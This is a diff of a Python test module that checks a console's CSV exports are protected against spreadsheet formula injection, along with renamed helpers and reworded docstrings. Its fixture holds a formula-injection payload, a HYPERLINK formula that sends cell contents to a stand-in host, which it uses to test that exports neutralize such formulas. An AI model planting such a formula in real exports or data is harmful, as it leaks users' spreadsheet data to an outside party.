@@ -1,4 +1,4 @@
-"""Every file for spreadsheets, made from the URLconf: no cell of it is run as a formula."""
+"""Every CSV export of the URLconf: no cell is run as a formula by a spreadsheet."""
 
 from __future__ import annotations
 
@@ -19,15 +19,15 @@ from console.connections import clients
 from console.jobs.models import Job, Row, Secret
 from console.ui.csv import FORMULA
 from tests.console_process import CHECKOUT
-from tests.populated import PopulatedTeam, addresses, fleet_copied, populated, seeded
-from tests.test_odd_answers import Damaged, each
+from tests.populated import PopulatedTeam, copied_fleet, list_addresses, populated, seeded_fleet
+from tests.test_malformed_responses import DamagingTransport, change_values
 
-__all__ = ["fleet_copied", "populated", "seeded"]  # fixtures
+__all__ = ["copied_fleet", "populated", "seeded_fleet"]  # fixtures
 
 SignIn = Callable[[str], Client]
 EVIL = '=HYPERLINK("evil.test?"&A1)'
-# The exports there are now: one that is added is tried like these, and one that is lost is missed here.
-KNOWN = {
+# The current exports. A new export is tested too; a missing one fails.
+KNOWN_EXPORTS = {
     "products:list",
     "devices:list",
     "jobs:list",
@@ -38,12 +38,12 @@ KNOWN = {
     "access:audit",
     "access:audit-reads",
 }
-# Those whose cells begin with words of ours, or with what nobody outside could have put there.
-OUR_WORDS_FIRST = {"jobs:list", "approvals:list"}
+# Exports whose cells start with text of the console, or with text that no outsider can write.
+SAFE_TEXT_FIRST = {"jobs:list", "approvals:list"}
 
 
-def runs(cell: str) -> bool:
-    """Whether a spreadsheet takes the cell for a formula; a plain number is none."""
+def is_formula(cell: str) -> bool:
+    """Whether a spreadsheet treats the cell as a formula. A plain number is not a formula."""
     try:
         float(cell)
     except ValueError:
@@ -53,14 +53,14 @@ def runs(cell: str) -> bool:
 
 @pytest.fixture
 def hostile(populated: PopulatedTeam, monkeypatch: pytest.MonkeyPatch, settings: Any) -> PopulatedTeam:
-    """The populated with a formula in every text that people, devices or the cloud could have put there."""
+    """The populated team with a formula in every text that users, devices or the platform can write."""
     settings.CLOUD_CACHE_SECONDS = 0
-    kept = {"True", "False", "r"}
+    unchanged = {"True", "False", "r"}
 
-    def worse(value: Any) -> Any:
-        return EVIL if isinstance(value, str) and value not in kept else value
+    def replace_text(value: Any) -> Any:
+        return EVIL if isinstance(value, str) and value not in unchanged else value
 
-    damaged = Damaged(populated.upstream, lambda answer: each(answer, worse))
+    damaged = DamagingTransport(populated.upstream, lambda response: change_values(response, replace_text))
     monkeypatch.setattr(clients, "transport_for", lambda connection: damaged)
     clients.drop_clients()
     team = populated.org.team
@@ -84,31 +84,35 @@ def hostile(populated: PopulatedTeam, monkeypatch: pytest.MonkeyPatch, settings:
     return populated
 
 
-def files(populated: PopulatedTeam, client: Client) -> Iterator[tuple[str, str]]:
-    """What every address that gives a CSV file gives, by the address's name."""
-    for name in addresses():
+def read_exports(populated: PopulatedTeam, client: Client) -> Iterator[tuple[str, str]]:
+    """Yield the address name and the content of every CSV export."""
+    for name in list_addresses():
         url = populated.url(name)
         key = populated.things["products"]["key"]
-        answer = client.get(f"{url}?format=csv&product={key}")
-        if answer.get("Content-Type", "").startswith("text/csv"):
-            yield name, answer.getvalue().decode("utf-8-sig")
+        response = client.get(f"{url}?format=csv&product={key}")
+        if response.get("Content-Type", "").startswith("text/csv"):
+            yield name, response.getvalue().decode("utf-8-sig")
 
 
-def test_no_export_holds_a_cell_that_a_spreadsheet_would_run(hostile: PopulatedTeam, sign_in: SignIn) -> None:
-    found, wrong, neutralised = set(), [], set()
-    for name, text in files(hostile, sign_in("owner")):
-        found.add(name)
+def test_no_export_contains_a_cell_that_a_spreadsheet_would_run(
+    hostile: PopulatedTeam, sign_in: SignIn
+) -> None:
+    exports, formulas, neutralized = set(), [], set()
+    for name, text in read_exports(hostile, sign_in("owner")):
+        exports.add(name)
         for row in csv.reader(io.StringIO(text)):
-            wrong += [f"{name}: {cell!r}" for cell in row if runs(cell)]
+            formulas += [f"{name}: {cell!r}" for cell in row if is_formula(cell)]
             if any(cell.startswith("'=") for cell in row):
-                neutralised.add(name)
-    assert wrong == []
-    assert found >= KNOWN
-    assert neutralised >= found - OUR_WORDS_FIRST, "nothing hostile was in it: give it something in `hostile`"
+                neutralized.add(name)
+    assert formulas == []
+    assert exports >= KNOWN_EXPORTS
+    assert neutralized >= exports - SAFE_TEXT_FIRST, (
+        "no formula was in the export: add one to the fixture `hostile`"
+    )
 
 
 def test_only_one_module_writes_csv() -> None:
-    """So that nobody forgets: others give rows to `console.ui.csv`."""
+    """Other modules pass rows to `console.ui.csv`, which neutralizes formulas."""
     offenders = []
     for path in Path(CHECKOUT, "console").rglob("*.py"):
         where = path.relative_to(CHECKOUT).as_posix()
@@ -116,12 +120,12 @@ def test_only_one_module_writes_csv() -> None:
             continue
         tree = ast.parse(path.read_text(encoding="utf-8"))
         for node in ast.walk(tree):
-            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
-            typed = (
+            callee = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
+            sets_csv_type = (
                 isinstance(node, ast.keyword)
                 and node.arg == "content_type"
                 and "csv" in ast.unparse(node.value)
             )
-            if called.endswith(("csv.writer", "DictWriter")) or typed:
+            if callee.endswith(("csv.writer", "DictWriter")) or sets_csv_type:
                 offenders.append(f"{where}:{getattr(node, 'lineno', 0)}")
     assert offenders == []
